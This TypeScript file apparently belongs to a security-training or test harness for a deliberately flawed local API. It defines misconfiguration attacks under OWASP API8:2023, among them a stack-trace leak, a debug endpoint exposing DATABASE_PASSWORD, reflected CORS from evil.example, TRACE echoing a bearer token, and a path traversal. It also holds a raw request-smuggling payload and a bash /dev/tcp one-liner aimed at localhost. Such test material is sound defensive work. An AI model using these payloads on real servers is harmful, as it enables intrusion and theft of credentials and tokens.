/** API8:2023 Security Misconfiguration. */
import { type Attack, GET_HEALTH, lastOf, lastSays, LIST_ORDERS, ORDER_CUPS } from "./attack.ts";

const SMUGGLED = "GET /debug/env HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n";
const CHUNKED_NOTHING = "0\r\n\r\n";
const SMUGGLING = [
  "POST /sessions HTTP/1.1",
  "Host: 127.0.0.1",
  "Content-Type: application/json",
  `Content-Length: ${CHUNKED_NOTHING.length + SMUGGLED.length}`,
  "Transfer-Encoding: chunked",
  "",
  CHUNKED_NOTHING + SMUGGLED,
].join("\r\n");

export const MISCONFIGURATION: readonly Attack[] = [
  {
    id: "stack-trace",
    title: "a stack trace for broken JSON",
    owasp: "API8:2023",
    flaw: "Every exception is sent with its stack, file names included.",
    requests: () => [{ method: "POST", path: "/orders", as: "alice", headers: { "content-type": "application/json" }, body: '{"items":[' }],
    exploited: lastSays(500, '"stack":"SyntaxError'),
    twin: ORDER_CUPS,
  },
  {
    id: "debug-endpoint",
    title: "the debug endpoint",
    owasp: "API8:2023",
    flaw: "`GET /debug/env` was left on.",
    requests: () => [{ method: "GET", path: "/debug/env" }],
    exploited: lastSays(200, "DATABASE_PASSWORD"),
    twin: GET_HEALTH,
  },
  {
    id: "any-origin",
    title: "another web page reads with alice's credentials",
    owasp: "API8:2023",
    flaw: "`Access-Control-Allow-Origin` repeats whatever `Origin` says, with credentials.",
    requests: () => [{ method: "GET", path: "/orders", as: "alice", headers: { origin: "https://evil.example" } }],
    exploited: (responses) => lastOf(responses).headers["access-control-allow-origin"] === "https://evil.example",
    twin: LIST_ORDERS,
  },
  {
    id: "trace",
    title: "TRACE repeats the token",
    owasp: "API8:2023",
    flaw: "`TRACE` is answered with the request's own header fields.",
    requests: () => [{ method: "TRACE", path: "/", as: "alice" }],
    exploited: lastSays(200, '"authorization":"Bearer'),
    twin: GET_HEALTH,
  },
  {
    id: "banner",
    title: "the versions of what runs here",
    owasp: "API8:2023",
    flaw: "`Server` and `X-Powered-By` name the software and its version.",
    requests: () => [{ method: "GET", path: "/health" }],
    exploited: (responses) => (lastOf(responses).headers["x-powered-by"] ?? "").startsWith("node "),
    twin: GET_HEALTH,
  },
  {
    id: "smuggle-request",
    title: "a second request in the body of the first",
    owasp: "API8:2023",
    flaw: "The lenient parser takes `Content-Length` beside `Transfer-Encoding`; who believes the other one forwards a request it never saw.",
    requests: () => [{ method: "POST", path: "/sessions", raw: SMUGGLING }],
    exploited: (responses) => lastOf(responses).body.includes("DATABASE_PASSWORD"),
    twin: GET_HEALTH,
    shell: `bash -c 'exec 3<>/dev/tcp/127.0.0.1/3000; printf "${SMUGGLING.replaceAll("\r\n", "\\r\\n")}" >&3; cat <&3'`,
  },
  {
    id: "leave-the-folder",
    title: "a manual that is a source file",
    owasp: "API8:2023",
    flaw: "`GET /manuals/{name}` joins the decoded name to its folder, so an encoded slash leads out.",
    requests: () => [{ method: "GET", path: "/manuals/..%2Fidentity.ts" }],
    exploited: lastSays(200, "unsignedToken"),
    twin: { request: () => ({ method: "GET", path: "/manuals/teapot.txt" }), status: 200, says: "Warm the pot" },
  },
];
